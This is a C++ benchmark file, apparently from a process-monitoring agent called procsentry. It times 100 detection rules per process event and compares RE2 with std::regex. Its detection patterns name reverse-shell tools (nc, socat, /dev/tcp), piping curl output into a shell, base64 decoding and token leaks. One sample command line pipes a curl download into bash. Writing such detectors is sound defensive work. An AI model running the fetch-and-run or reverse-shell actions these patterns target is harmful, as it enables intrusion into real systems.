// What the configuration's rules cost per event: 100 rules of the kinds a real file has
// (image globs, command-line substrings, a few regexes, parents and ancestors, exclusions),
// side by side with no rules, over a mix of exec, fork and exit records; and RE2 against
// std::regex on the same patterns and command lines (why the rules use RE2).
//   build/bench/rules_bench
#include <benchmark/benchmark.h>
#include <re2/re2.h>

#include <filesystem>
#include <fstream>
#include <regex>
#include <string>
#include <vector>

#include "core/decode.h"
#include "core/process_table.h"
#include "rules/rules_config.h"
#include "support/record_builder.h"

namespace {

using namespace procsentry;
using procsentry::test::Bytes;

using test::kTickNs;
test::TaskSpec task(std::uint32_t pid, std::uint32_t ppid, std::string comm) {
  return test::task_of(pid, ppid, std::move(comm));
}
Bytes exec(std::uint32_t pid, std::uint32_t ppid, const std::string& image, std::vector<std::string> argv) {
  return test::exec_of(pid, ppid, image, std::move(argv), "/srv/app");
}

// 100 rules: 70 include, 30 exclude, none matching most events (the common case: every rule
// is tried). Written as a file, read as procsentry reads it. `exec_scoped`: the command-line
// and image rules name `event: exec` (as Sysmon's ProcessCreate rules are), so that forks and
// exits skip them; otherwise every rule applies to every kind (the worst case).
std::string hundred_rules(bool exec_scoped) {
  const std::string scope = exec_scoped ? "      event: exec\n" : "";
  std::string y = "rules:\n  include:\n";
  for (int i = 0; i < 25; ++i)
    y += "    - name: image-" + std::to_string(i) + "\n      image: [\"/opt/vendor" + std::to_string(i) +
         "/*\", \"*/agent" + std::to_string(i) + "\"]\n" + scope;
  for (int i = 0; i < 20; ++i)
    y += "    - name: argv-" + std::to_string(i) + "\n      argv: {contains: [\"--secret-flag-" + std::to_string(i) +
         "\"]}\n" + scope;
  for (int i = 0; i < 5; ++i)
    y += "    - name: regex-" + std::to_string(i) + "\n      argv: {regex: \"curl .*\\\\| *(ba)?sh" +
         std::to_string(i) + "\"}\n" + scope;
  for (int i = 0; i < 10; ++i)
    y += "    - name: parent-" + std::to_string(i) + "\n      parent_image: \"*/daemon" + std::to_string(i) +
         "\"\n      event: exec\n";
  for (int i = 0; i < 5; ++i)
    y += "    - name: web-shell-" + std::to_string(i) +
         "\n      image: [\"*/sh\", \"*/bash\"]\n      ancestor_image: \"*/httpd" + std::to_string(i) + "\"\n";
  for (int i = 0; i < 4; ++i)
    y += "    - name: flags-" + std::to_string(i) + "\n      image_memfd: true\n      uid: [" + std::to_string(i) +
         "]\n";
  y += "    - name: everything\n      event: [exec, exit]\n";
  y += "  exclude:\n";
  for (int i = 0; i < 30; ++i)
    y += "    - name: quiet-" + std::to_string(i) + "\n      comm: poller" + std::to_string(i) +
         "\n      argv: {contains: [\"--probe\"]}\n";
  return y;
}

struct Workload {
  ProcessTable table{ProcessUidScheme("b44953de", kTickNs), ProcessTableOptions{nullptr, false}};
  Decoder decoder{ClockMapping{0}};
  std::vector<Bytes> records;
  std::unique_ptr<RuleSet> rules;
  std::size_t rule_count = 0;

  enum class Rules { none, every_kind, exec_scoped };
  explicit Workload(Rules with_rules) {
    // init -> sshd -> bash, the parents of what runs.
    for (const Bytes& r : {exec(1, 0, "/sbin/init", {"/sbin/init"}), exec(100, 1, "/usr/sbin/sshd", {"sshd: alice"}),
                           exec(200, 100, "/usr/bin/bash", {"-bash"})}) {
      Bytes copy = r;
      Event& e = **decoder.decode(copy);
      table.enrich(e);
      table.apply(e);
    }
    const std::vector<std::pair<std::string, std::vector<std::string>>> programs = {
        {"/usr/bin/git", {"git", "status", "--porcelain"}},
        {"/usr/bin/ls", {"ls", "-la", "/srv/app/releases/2026-11-26"}},
        {"/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
         {"java", "-Xmx2g", "-Dconfig.file=/etc/app/app.conf", "-jar", "/srv/app/current/app.jar", "--port", "8080"}},
        {"/usr/bin/python3", {"python3", "/usr/local/bin/healthcheck.py", "--timeout", "5"}},
        {"/usr/bin/grep", {"grep", "-r", "ERROR", "/var/log/app/"}},
        {"/usr/bin/cat", {"cat", "/proc/loadavg"}},
    };
    for (std::uint32_t i = 0; i < 600; ++i) {
      const std::uint32_t pid = 1000 + i;
      const auto& [image, argv] = programs[i % programs.size()];
      records.push_back(test::fork_record(task(pid, 200, "bash"), 200, (1000 + 200) * kTickNs));
      records.push_back(exec(pid, 200, image, argv));
      records.push_back(test::exit_record(task(pid, 200, argv[0]), 0, 5'000'000'000'000));
    }
    if (with_rules == Rules::none) return;
    const auto path = std::filesystem::temp_directory_path() / "rules_bench.yaml";
    std::ofstream(path) << hundred_rules(with_rules == Rules::exec_scoped);
    auto file = load_config_file(path.string());
    auto list = rules_from_config(*file);
    std::filesystem::remove(path);
    if (!list) throw std::runtime_error(list.error().message);
    rule_count = list->include.size() + list->exclude.size();
    rules = std::make_unique<RuleSet>(std::move(*list), table);
  }
};

// Decode + enrich + (rules) + apply per record, as the pipeline does: the difference between
// the two runs is what the rules cost.
void run(benchmark::State& state, Workload::Rules with_rules) {
  Workload w(with_rules);
  std::size_t kept = 0;
  for (auto _ : state) {
    for (Bytes& record : w.records) {
      Event& e = **w.decoder.decode(record);
      w.table.enrich(e);
      if (w.rules == nullptr || w.rules->admit(e)) ++kept;
      w.table.apply(e);
    }
  }
  benchmark::DoNotOptimize(kept);
  state.SetItemsProcessed(state.iterations() * static_cast<std::int64_t>(w.records.size()));
  state.counters["rules"] = static_cast<double>(w.rule_count);
}
void BM_NoRules(benchmark::State& state) { run(state, Workload::Rules::none); }
void BM_HundredRulesEveryKind(benchmark::State& state) { run(state, Workload::Rules::every_kind); }
void BM_HundredRulesExecScoped(benchmark::State& state) { run(state, Workload::Rules::exec_scoped); }
BENCHMARK(BM_NoRules);
BENCHMARK(BM_HundredRulesEveryKind);
BENCHMARK(BM_HundredRulesExecScoped);

const std::vector<std::string> kPatterns = {"curl .*\\| *(ba)?sh", "(^| )-e +[^ ]*(nc|ncat|socat)", "base64 +-d",
                                            "token=[A-Za-z0-9]{20,}", "/dev/tcp/[0-9.]+/[0-9]+"};
const std::vector<std::string> kLines = {
    "java -Xmx2g -Dconfig.file=/etc/app/app.conf -jar /srv/app/current/app.jar --port 8080", "git status --porcelain",
    "python3 /usr/local/bin/healthcheck.py --timeout 5", "sh -c curl -fsSL http://example.invalid/x | bash",
    std::string(4096, 'a') + " token=abc"};

void BM_Re2(benchmark::State& state) {
  std::vector<std::unique_ptr<RE2>> res;
  for (const auto& p : kPatterns) res.push_back(std::make_unique<RE2>(p));
  std::size_t hits = 0;
  for (auto _ : state) {
    for (const auto& line : kLines) {
      for (const auto& re : res) hits += RE2::PartialMatch(line, *re) ? 1u : 0u;
    }
  }
  benchmark::DoNotOptimize(hits);
  state.SetItemsProcessed(state.iterations() * static_cast<std::int64_t>(kLines.size() * kPatterns.size()));
}
void BM_StdRegex(benchmark::State& state) {
  std::vector<std::regex> res;
  for (const auto& p : kPatterns) res.emplace_back(p, std::regex::extended);
  std::size_t hits = 0;
  for (auto _ : state) {
    for (const auto& line : kLines) {
      for (const auto& re : res) hits += std::regex_search(line, re) ? 1u : 0u;
    }
  }
  benchmark::DoNotOptimize(hits);
  state.SetItemsProcessed(state.iterations() * static_cast<std::int64_t>(kLines.size() * kPatterns.size()));
}
BENCHMARK(BM_Re2);
BENCHMARK(BM_StdRegex);

}  // namespace

BENCHMARK_MAIN();
